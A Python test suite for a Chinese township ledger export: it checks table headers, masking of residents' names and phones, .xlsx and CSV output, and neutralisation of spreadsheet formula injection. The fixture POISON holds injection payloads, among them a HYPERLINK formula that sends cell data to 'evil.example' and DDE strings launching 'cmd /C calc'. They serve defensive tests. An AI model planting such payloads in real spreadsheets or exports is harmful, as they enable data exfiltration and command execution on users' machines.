"""Exports: the 附件 tables with the seed's Chinese headers, masking, .xlsx and CSV files."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from zoufang.campaign.exports import TITLES, export_tables, write_csv, write_xlsx

from .ledger_world import World

MARCH = dict(start=dt.date(2022, 3, 1), end=dt.date(2022, 3, 31),
             as_of=dt.datetime(2022, 3, 26, 9))

#: Headers of the Haiyang notice's 附件1–5 (seeds/004_*.txt), as printed there.
SEED_HEADERS = {
    "附件1": ["村(居)民住址", "村(居)民姓名", "联系电话", "备注"],
    "附件2": ["村(居)民姓名", "村(居)民住址", "联系电话", "问题类型", "问题内容", "备注"],
    "附件3": ["服务对象姓名", "工作单位(住址)", "联系电话", "备注"],
    "附件4-行业": ["服务对象姓名", "工作单位(住址)", "联系电话", "问题类型", "问题内容", "备注"],
    "附件4-公共": ["服务对象姓名", "工作单位(住址)", "联系电话", "问题类型", "问题内容", "备注"],
    "附件5": ["反映人姓名", "联系电话", "问题内容", "办理情况", "责任单位", "备注"],
}


def test_seed_tables_rows_and_headers(world: World) -> None:
    """The March tables have the expected headers and rows, from 附件1 to the no-issue list.

    附件1 lists the 5 households settled by a 走访 visit (T1, T3, T4 refused, T5 vacant, T6;
    not T2, not E1 the enterprise); 附件2 the 3 public issues of visits; 附件3 E1 as service
    contact and 附件4 its sector issue; 附件5 the hotline call; the issue list has the 5 March
    issues with I2's red warning; the no-issue list has T6.
    """
    with world.store.session() as s:
        t = export_tables(s, world.township_id, **MARCH)
    for key, head in SEED_HEADERS.items():
        assert list(t[key].columns) == head, key
    assert list(t["附件1"]["村(居)民姓名"]) == ["张三", "王五", "赵六", "钱七", "孙八"]
    assert "拒访" in t["附件1"].iloc[2]["备注"] and "电话" in t["附件1"].iloc[1]["备注"]
    assert list(t["附件2"]["问题内容"]) == ["路灯不亮", "卫生室缺药", "邻里纠纷"]
    assert list(t["附件2"]["问题类型"]) == ["居住环境", "基本医疗", "其他"]
    assert list(t["附件3"]["服务对象姓名"]) == ["宏达机械厂"]
    assert list(t["附件4-行业"]["问题内容"]) == ["厂区道路审批"] and t["附件4-公共"].empty
    row5 = t["附件5"].iloc[0]
    assert (row5["反映人姓名"], row5["联系电话"], row5["问题内容"], row5["办理情况"]) == (
        "赵六", "13700002222", "夜间噪音", "采集录入")
    issues = t["问题清单"]
    assert len(issues) == 5
    i2 = issues[issues["编号"] == world.issues["I2"]].iloc[0]
    assert (i2["预警"], i2["状态"], i2["责任单位"], i2["走访干部(责任人)"]) == (
        "红色预警", "办理中（会办协商、督办落实）", "市卫健局", "刘一")
    i1 = issues[issues["编号"] == world.issues["I1"]].iloc[0]
    assert (i1["回访评价"], i1["销号方式"]) == ("满意", "群众满意")
    assert list(t["无问题清单"]["对象编号"]) == ["T6"]
    assert list(t["每周汇总"]["逾期数"]) == [0, 0, 0, 1, 2]
    assert t["走访指标-乡镇"].iloc[0]["走访率(%)"] == 75.0


def test_masked_copy_for_leaders(world: World) -> None:
    """The masked copy (mask=True) hides names, phones and cadres; addresses and texts stay.

    Names become 张*, phones 138****1234 (landlines 053****4567), and cadres are masked in the
    issue list and the measures.
    """
    with world.store.session() as s:
        t = export_tables(s, world.township_id, mask=True, **MARCH)
    a1 = t["附件1"]
    assert list(a1["村(居)民姓名"]) == ["张*", "王*", "赵*", "钱*", "孙*"]
    assert a1.iloc[0]["联系电话"] == "138****1234" and a1.iloc[0]["村(居)民住址"] == "测试村T1号"
    assert t["附件3"].iloc[0]["联系电话"] == "053****4567"
    assert t["附件5"].iloc[0]["反映人姓名"] == "赵*"
    assert set(t["问题清单"]["走访干部(责任人)"].dropna()) == {"刘*", "陈*"}
    assert set(t["走访指标-干部"]["名称"]) == {"刘*", "陈*", "杨*"}
    every = pd.concat([df.astype(str) for df in t.values()]).to_string()
    for secret in ("张三", "13812341234", "0534-1234567", "刘一"):
        assert secret not in every


def test_xlsx_and_csv_files(world: World, tmp_path: Path) -> None:
    """The tables are written as one Excel workbook and as CSV files, one per table.

    The workbook has a sheet per table with the full title above the headers; CSV files are
    UTF-8 with BOM, one per table, named by key and title.
    """
    with world.store.session() as s:
        t = export_tables(s, world.township_id, mask=True, **MARCH)
    path = write_xlsx(t, tmp_path / "out" / "台账.xlsx")
    wb = load_workbook(path, read_only=True)
    assert wb.sheetnames[:3] == ["附件1", "附件3", "附件2"]
    ws = wb["附件2"]
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0][0] == TITLES["附件2"]
    assert list(rows[1]) == SEED_HEADERS["附件2"]
    assert rows[2][0] == "张*"
    back = pd.read_excel(path, sheet_name="附件1", header=1)
    assert list(back.columns) == SEED_HEADERS["附件1"] and len(back) == 5
    files = write_csv(t, tmp_path / "csv")
    names = {f.name for f in files}
    assert "附件5_89000民生热线、网上民声交办问题统计表.csv" in names
    raw = (tmp_path / "csv" / "附件1_走访村民(居民)情况统计表.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert pd.read_csv(tmp_path / "csv" / "问题清单.csv", encoding="utf-8-sig").shape[0] == 5


# ------------------------------------------------------------------ formula injection

#: Formula-shaped text as an upload or a cadre might give it (OWASP CSV injection).
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
POISON = {
    "name": HYPERLINK,                       # T1's name, from an upload
    "address": "@SUM(1+1)*cmd|' /C calc'!A0",  # T1's address
    "phone": "+86 13812341234",              # T1's phone: text, neutralised too
    "text": "-2+3+cmd|' /C calc'!A0",        # I1's text, typed by a cadre
    "tab": "\t=1+2",                         # I2's text
    "cr": "\r=3+4",                          # I3's text
    "unit": "=1+1",                          # I2's responsible unit
    "reporter": "@reporter",                 # I5's (hotline) reporter
    "inner_cr": "厂区道路\r=5+6",            # I4's text: a CR inside, not in front
}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def poison(world: World) -> None:
    """Give T1 and the issues I1–I5 the formula-shaped texts of :data:`POISON`."""
    from sqlalchemy import update

    from zoufang.campaign.store import Issue, Target

    ids = world.issues
    with world.store.session() as s:
        s.execute(update(Target).where(Target.id == world.targets["T1"]).values(
            name=POISON["name"], address=POISON["address"], phone=POISON["phone"]))
        for key, values in (("I1", {"text": POISON["text"]}),
                            ("I2", {"text": POISON["tab"], "unit": POISON["unit"]}),
                            ("I3", {"text": POISON["cr"]}),
                            ("I4", {"text": POISON["inner_cr"]}),
                            ("I5", {"reporter_name": POISON["reporter"]})):
            s.execute(update(Issue).where(Issue.id == ids[key]).values(**values))


def formula_elements(path: Path) -> dict[str, int]:
    """Count the ``<f>`` (formula) elements of each sheet XML in the .xlsx at ``path``."""
    import re
    import zipfile

    with zipfile.ZipFile(path) as z:
        return {n: len(re.findall(rb"<(?:\w+:)?f[\s>/]", z.read(n))) for n in z.namelist()
                if n.startswith("xl/worksheets/") and n.endswith(".xml")}


def expected_texts(mask: bool) -> set[str]:
    """The formula-shaped texts the (masked) ledger export must hold, as text."""
    from zoufang.privacy import mask_name

    want = {POISON[k] for k in ("address", "text", "tab", "cr", "unit")}
    if mask:
        return want | {mask_name(POISON["name"]) or "", mask_name(POISON["reporter"]) or ""}
    return want | {POISON["name"], POISON["phone"], POISON["reporter"]}


@pytest.mark.parametrize("mask", [False, True], ids=["unmasked", "masked"])
def test_formula_shaped_text_is_text_in_xlsx(world: World, tmp_path: Path,
                                             mask: bool) -> None:
    """A formula-shaped name, address, phone or issue text is a text cell in every sheet.

    Masked or not, no sheet XML of the ledger's .xlsx holds an ``<f>`` element and no cell
    reads back as a formula; each formula-shaped text reads back unchanged as a string
    cell with Excel's quote prefix, and the issue numbers (编号) stay numbers.
    """
    poison(world)
    with world.store.session() as s:
        t = export_tables(s, world.township_id, mask=mask, **MARCH)
    path = write_xlsx(t, tmp_path / "台账.xlsx")
    counts = formula_elements(path)
    assert len(counts) == len(t) and sum(counts.values()) == 0, counts
    wb = load_workbook(path)
    texts: dict[str, set[str]] = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str) and c.value.startswith((*TRIGGERS, "\n")):
                    assert c.data_type == "s" and c.quotePrefix, (ws.title, c.coordinate)
                    texts.setdefault(c.value.replace("\n", "\r"), set()).add(ws.title)
    assert expected_texts(mask) <= set(texts), set(texts)
    assert {"附件1", "附件2", "问题清单"} <= texts[mask_or(mask, POISON["name"])]
    assert "附件5" in texts[mask_or(mask, POISON["reporter"])]
    ws = wb["问题清单"]
    head = [c.value for c in ws[2]]
    numbers = [r[head.index("编号")] for r in ws.iter_rows(min_row=3)]
    assert numbers and all(c.data_type == "n" and isinstance(c.value, int) for c in numbers)


def mask_or(mask: bool, text: str) -> str:
    """``text`` as the export shows it: masked (a name) or as it is."""
    from zoufang.privacy import mask_name

    return (mask_name(text) or "") if mask else text


@pytest.mark.parametrize("mask", [False, True], ids=["unmasked", "masked"])
def test_formula_shaped_text_is_quoted_in_csv(world: World, tmp_path: Path,
                                              mask: bool) -> None:
    """In the CSV files every formula-shaped text gets a ``'`` in front, nothing else.

    No field of any file starts with ``=``, ``+``, ``-``, ``@``, tab or CR; each
    formula-shaped text is there as ``'`` followed by its original characters; a text with
    a CR inside stays one field (a CR cannot start a row); the issue numbers (编号) are
    written as plain numbers.
    """
    import csv

    poison(world)
    with world.store.session() as s:
        t = export_tables(s, world.township_id, mask=mask, **MARCH)
    quoted: set[str] = set()
    fields: set[str] = set()
    for f in write_csv(t, tmp_path / "csv"):
        with f.open(encoding="utf-8-sig", newline="") as fh:
            for row in csv.reader(fh):
                for field in row:
                    assert not field.startswith(TRIGGERS), (f.name, field)
                    fields.add(field)
                    if field.startswith("'"):
                        quoted.add(field[1:])
    assert expected_texts(mask) <= quoted, quoted
    assert POISON["inner_cr"] in fields
    issues = pd.read_csv(tmp_path / "csv" / "问题清单.csv", encoding="utf-8-sig")
    assert issues["编号"].dtype.kind == "i" and len(issues) == 5


def test_numbers_stay_numbers_only_text_neutralised(tmp_path: Path) -> None:
    """Negative numbers stay numbers in both formats; text such as "-3" or "=1+2" is text.

    In the .xlsx the numbers are numeric cells and the texts quote-prefixed string cells
    (no ``<f>``); in the CSV the numbers are written bare and the texts get a ``'``.
    """
    df = pd.DataFrame({"整数": [-3, 7], "小数": [-2.5, 1.0], "文本": ["-3", "=1+2"],
                       "日期": [dt.date(2022, 3, 1), None]})
    path = write_xlsx({"表": df}, tmp_path / "t.xlsx")
    assert formula_elements(path) == {"xl/worksheets/sheet1.xml": 0}
    ws = load_workbook(path)["表"]
    cells = {(c.row, c.column): c for row in ws.iter_rows(min_row=3) for c in row}
    assert [(cells[r, 1].value, cells[r, 1].data_type) for r in (3, 4)] == [(-3, "n"), (7, "n")]
    assert [cells[r, 2].value for r in (3, 4)] == [-2.5, 1.0] and cells[3, 2].data_type == "n"
    assert [(cells[r, 3].value, cells[r, 3].data_type, cells[r, 3].quotePrefix)
            for r in (3, 4)] == [("-3", "s", True), ("=1+2", "s", True)]
    assert not cells[3, 1].quotePrefix
    (f,) = write_csv({"表": df}, tmp_path / "csv")
    lines = f.read_text(encoding="utf-8-sig").splitlines()
    assert lines == ["整数,小数,文本,日期", "-3,-2.5,'-3,2022-03-01", "7,1.0,'=1+2,"]
